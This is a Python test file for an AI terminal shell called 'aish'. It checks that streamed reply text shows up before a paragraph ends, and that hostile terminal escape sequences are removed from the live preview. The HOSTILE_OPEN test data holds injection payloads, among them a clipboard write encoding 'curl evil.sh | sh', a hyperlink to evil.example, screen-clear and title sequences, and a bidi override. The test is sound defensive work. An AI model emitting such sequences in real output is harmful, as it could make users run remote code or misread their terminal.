"""A reply's words reach the screen as they arrive, even inside a long unfinished paragraph
(the real `aish` in a pty), and the live preview they are shown in is harmless.

The scripted server is held in the middle of a paragraph until the test lets it go, so "the
words appeared before the paragraph was complete" is checked exactly, not by timing.
"""

from __future__ import annotations

import re
import threading

from fault_server import FaultServer
from shell_support import Term


class Gated:
    """Chunks for FaultServer: ``before``, then a wait until ``gate`` is set (at most
    30 s), then ``after``."""

    def __init__(self, before: list[str], after: list[str]):
        self.before = before
        self.after = after
        self.gate = threading.Event()
        self.waiting = threading.Event()  # the server has sent `before` and is holding

    def __iter__(self):
        yield from self.before
        self.waiting.set()
        self.gate.wait(30)
        yield from self.after


def session_term(terms, env, server) -> Term:
    t = Term({**env, "OPENAI_BASE_URL": server.base}, "--session", "apollo")
    terms.append(t)
    t.expect(r"\(session: ")
    return t


def test_words_of_an_unfinished_paragraph_appear_as_they_arrive(term_env, terms):
    words = [f"word{i} " for i in range(40)]
    chunks = Gated(["Opening sentence of a long paragraph ", *words[:20]],
                   [*words[20:], "and the END.\n\nNext paragraph.\n"])
    with FaultServer(chunks=chunks) as server:
        t = session_term(terms, term_env, server)
        t.line("tell me something long")
        assert chunks.waiting.wait(120), "the server never got to the middle of the paragraph"
        # The paragraph is open (the server holds its end back): its words must show anyway,
        # promptly, after the reply's prefix.
        t.expect("apollo> ")
        t.expect(r"Opening sentence of a long")
        t.expect(r"word19")
        assert not chunks.gate.is_set()
        assert "word20" not in t.text and "END" not in t.text
        chunks.gate.set()
        t.expect(r"and the END\.")
        t.expect(r"Next paragraph\.")
        t.expect(re.escape("apollo (session)> "))
        t.send("\x04")
        assert t.wait() == 0


HOSTILE_OPEN = [
    "Safe start. Clipboard: \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 then ",
    "\x1b]8;;https://evil.example/\x1b\\click here\x1b]8;;\x1b\\ and \x1b[2",  # split CSI
    "J title \x1b]0;pwned\x07 bidi \u202eevil\u202c cr\rOVER PREVIEWED ",
]
FORBIDDEN = ("\x1b]52", "\x1b]8;", "\x1b[2J", "\x1b]0;", "pwned\x07", "\u202e", "\r" + "OVER",
             "Y3VybCBldmlsLnNoIHwgc2g=")


def test_hostile_escapes_in_an_unfinished_paragraph_never_reach_the_terminal(term_env, terms):
    chunks = Gated(HOSTILE_OPEN, ["the end.\n"])
    with FaultServer(chunks=chunks) as server:
        t = session_term(terms, term_env, server)
        t.line("say something")
        t.expect("PREVIEWED")  # shown by the preview, paragraph still open
        assert not chunks.gate.is_set()
        t.settle(0.5)  # a few redraws of the preview
        during = t.raw
        chunks.gate.set()
        t.expect(r"the end\.")
        t.expect(re.escape("apollo (session)> "))
        t.send("\x04")
        assert t.wait() == 0
    for raw in (during, t.raw):
        for bad in FORBIDDEN:
            assert bad not in raw, f"{bad!r} reached the terminal"
    assert during.count("\u241b") >= 5  # each removed sequence is shown as ␛
